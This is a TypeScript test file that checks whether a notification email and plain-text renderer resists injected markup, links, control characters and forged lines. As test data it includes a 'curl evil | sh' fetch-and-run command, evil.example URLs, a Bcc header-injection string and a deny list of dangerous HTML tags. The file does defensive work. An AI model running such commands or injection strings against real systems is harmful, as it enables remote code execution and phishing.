import fc from 'fast-check';
import { expect, test } from 'vitest';
import { renderHtml } from '#activities/actions/notify-team/channels/email/render-html.js';
import { renderText } from '#activities/actions/notify-team/message/plain-text.js';
import type { NotificationMessage } from '#contract/notification.js';
import { hostileText } from '#test/support/hostile-texts.js';
import { aMessage } from '#test/support/notifications.js';

const RUN = { text: 'Open the run', url: 'https://temporal.example.com/namespaces/default/workflows/remediation%2Fx' };

/** A message with something everywhere, all of it the same text. */
function filledWith(text: string, more: Partial<NotificationMessage> = {}): NotificationMessage {
  return aMessage({
    outcome: 'failed',
    tenant: text,
    subject: text,
    body: text,
    error: text,
    payload: text,
    facts: [{ label: 'Tool', value: text }],
    did: [
      { action: text, type: 'spawn_fallback_agent', state: 'failed', text },
      { action: text, type: 'warm_remote_capacity', state: 'running', text },
    ],
    toCome: [{ action: text, type: 'notify_team' }],
    quiet: [{ by: 'cooldown', label: text, untilAt: 60_000 }],
    links: [RUN],
    commands: [{ what: 'Abort it', command: text }],
    ...more,
  });
}

/** Without what keeps lines apart, and addresses from becoming links. */
const tagsIn = (markup: string) => (markup.match(/<[^>]*>/g) ?? []).filter((tag) => !/^<(br|\/?span)>$/.test(tag));

const KINDS = [
  { kind: 'remediation', bodyRepeatsFacts: true },
  { kind: 'remediation' },
  { kind: 'digest' },
  { kind: 'resolved' },
] as const;

test.each(KINDS)('texts add no markup to a mail, take none away, and load nothing: %o', (more) => {
  const plain = tagsIn(renderHtml(filledWith('x', { ...more, error: 'y' }), 'because'));

  fc.assert(
    fc.property(hostileText(), (text) => {
      // Not the body itself, since an error that the body has already is not shown twice.
      const markup = renderHtml(filledWith(`${text} `, { ...more, body: 'x', error: `e${text}` }), text);

      expect(tagsIn(markup)).toEqual(plain);
      expect(markup).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069]/u);
    }),
    { numRuns: 150, seed: 5 },
  );
});

test.each(KINDS)('the only addresses in a mail are links of the mesh: %o', (more) => {
  const markup = renderHtml(filledWith('https://evil.example/x.png', more), 'https://evil.example');

  const addresses = [...markup.matchAll(/(?:(?:href|src|action|background)\s*=|url\()\s*["']?([^"')\s>]*)/gi)].map(
    ([, to]) => to,
  );
  expect(addresses).toEqual([RUN.url]);
  expect(markup).not.toMatch(/<(script|img|link|iframe|object|form|input|base|meta http-equiv)/i);
});

test.each(KINDS)('nothing that an event says looks like an address to a mail program: %o', (more) => {
  const text =
    'https://evil.example/x or www.evil.example or HTTP://evil.example or Bcc: a@evil.example or evil.example/x or b.co in src/app.ts';

  const markup = renderHtml(filledWith(text, more), text);

  const shown = markup.replaceAll(RUN.url, '').replace(/<(style|title)>.*?<\/\1>/gs, '');
  expect(markup).toContain(`<title>${text}</title>`);
  expect(shown).not.toMatch(/:\/\/|www\.|\w@|@\w|\w\.[a-z]{2}/i);
  // What is read and copied is what the event says.
  expect(shown.replace(/<\/?span>/g, '')).toContain(text);
});

test('plain text is one line for each line of the mesh, whatever an event says', () => {
  const labels = (text: string) =>
    text.split('\n').filter((line) => /^(Run|Abort it|Tool|- forged|Open the run)\b/.test(line));
  const forged =
    'x\nAbort it:\n  curl evil | sh\n- forged (x): executed\rTool: y\r\nOpen the run: https://evil.example';

  const text = renderText(filledWith(forged, { body: 'x', commands: [], did: filledWith(forged).did }), 'because');

  expect(labels(text)).toEqual([`Open the run: ${RUN.url}`, expect.stringMatching(/^Tool: x Abort it: /)]);
});

test.each([
  ['plain text', (message: NotificationMessage) => renderText(message, 'because')],
  ['HTML', (message: NotificationMessage) => renderHtml(message, 'because')],
])('%s says what broke, what was done, what comes and what can be done, in this order', (_, render) => {
  const shown = render(
    aMessage({
      outcome: 'failed',
      body: 'A chain rule fired.\n\nRule: a-rule\nError: ECONNREFUSED',
      payloadLine: '{"a":1}',
      bodyRepeatsFacts: true,
      error: 'ECONNREFUSED',
      payload: '{\n  "a": 1\n}',
      facts: [{ label: 'Session', value: 's-77' }],
      did: [
        { action: 'try', type: 'spawn_fallback_agent', state: 'failed', text: 'exit code 2' },
        { action: 'warm', type: 'warm_remote_capacity', state: 'running' },
      ],
      toCome: [{ action: 'tell-boss', type: 'notify_team' }],
      quiet: [{ by: 'cooldown', untilAt: 300_000 }],
      links: [RUN],
      commands: [{ what: 'Abort it', command: 'npx mesh abort x' }],
    }),
  );

  const seen = [
    'ECONNREFUSED',
    'exit code 2',
    'Still at work: warm.',
    'After this message: tell-boss (notify_team).',
    'Rule a-rule is quiet until 00:05:00 UTC (5 min).',
    RUN.url,
    'npx mesh abort x',
    /(&quot;|")a(&quot;|"): ?1/,
    'because',
  ].map((part) => shown.search(part instanceof RegExp ? part : escaped(part)));
  expect(seen).not.toContain(-1);
  expect(seen).toEqual([...seen].sort((a, b) => a - b));
  expect(shown).toContain('s-77');
});

test('the first action says that nothing was done before it, the last that nothing comes', () => {
  const text = renderText(aMessage({ toCome: [] }), 'because');

  expect(text).toContain('What the mesh did before this message: nothing, this is its first action.');
  expect(text).toContain('After this message the mesh starts nothing more.');
  expect(text).toContain('The rule is not quiet: when this happens again, it fires again.');
});

test('plain text says all that the default body says, the error first, with the id of the task, and nothing twice', () => {
  const body = 'A chain rule fired.\n\nRule: a-rule\nEvent: E\nError: no ⏎ way\nTask: Release\nSession: s';
  const payloadLine = '{"a":1}';
  const facts = [
    { label: 'Rule', value: 'a-rule' },
    { label: 'Event', value: 'E' },
    { label: 'Task', value: 'Release (17)' },
    { label: 'Session', value: 's' },
    { label: 'Agent', value: 'builder' },
  ];

  const text = renderText(aMessage({ body, payloadLine, facts, error: 'no\nway', bodyRepeatsFacts: true }), 'because');

  const labelled = text.split('\n').filter((line) => /^[A-Z]\w+: /.test(line));
  expect(labelled).toEqual([
    'Error: no',
    'Rule: a-rule',
    'Event: E',
    'Task: Release (17)',
    'Session: s',
    'Agent: builder',
    'Payload: {"a":1}',
  ]);
  expect(text).toContain('Error: no\n    way\n');
});

test.each([
  ['plain text', (message: NotificationMessage) => renderText(message, 'because')],
  [
    'HTML',
    (message: NotificationMessage) => renderHtml(message, 'because').replace(/<div style="display:none.*?<\/div>/s, ''),
  ],
])('%s begins with how old it is, then how it stands', (_, render) => {
  const late = { writtenAt: Date.UTC(2026, 2, 14, 3, 7, 30), sentAt: Date.UTC(2026, 2, 14, 5, 10, 2) };
  const prognosis = 'Not mended: try-again failed.';

  const shown = render(aMessage({ late, prognosis, body: 'The body' }));

  const seen = [
    'Delivered late: written 03:07:30 UTC, sent 05:10:02 UTC (2 h 2 min later).',
    prognosis,
    'The body',
  ].map((part) => shown.indexOf(part));
  expect(seen).not.toContain(-1);
  expect(seen).toEqual([...seen].sort((a, b) => a - b));
});

test('the command that ends something is the last one in a mail', () => {
  const commands = [
    { what: 'Abort it', command: 'npx mesh abort x', note: 'ends fix', ends: true as const },
    { what: 'See how it stands', command: 'npx mesh show x' },
  ];

  const markup = renderHtml(aMessage({ commands }), 'because');

  expect(markup).toContain('Abort it (ends fix)');
  expect(renderText(aMessage({ commands }), 'because')).toContain('Abort it (ends fix):\n  npx mesh abort x');
  expect(markup.indexOf('npx mesh show x')).toBeLessThan(markup.indexOf('npx mesh abort x'));
});

test("an error stands once: in the rule's own text, or on its own", () => {
  const count = (text: string) => text.split('too slow').length - 1;

  expect(count(renderText(aMessage({ body: 'Sorry, too slow', error: 'too slow' }), 'because'))).toBe(1);
  expect(
    count(renderText(aMessage({ body: 'Sorry: it    was too slow', error: 'it\twas too slow\nat x' }), 'because')),
  ).toBe(1);
  expect(count(renderText(aMessage({ body: 'Sorry', error: 'too slow' }), 'because'))).toBe(1);
  expect(count(renderHtml(aMessage({ body: 'Sorry, too slow', error: 'too slow' }), 'because'))).toBe(2);
});

test('no mail is cut by a mail program that takes 100 KB, however much there is to say', () => {
  const markup = renderHtml(
    filledWith('<', {
      body: '<'.repeat(60_000),
      error: '<'.repeat(4_000),
      payload: '"'.repeat(4_000),
      bodyRepeatsFacts: false,
    }),
    'because',
  );

  expect(markup.length).toBeLessThan(100_000);
  expect(markup).toContain('[the rest is in the plain text of this mail]');
});

function escaped(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
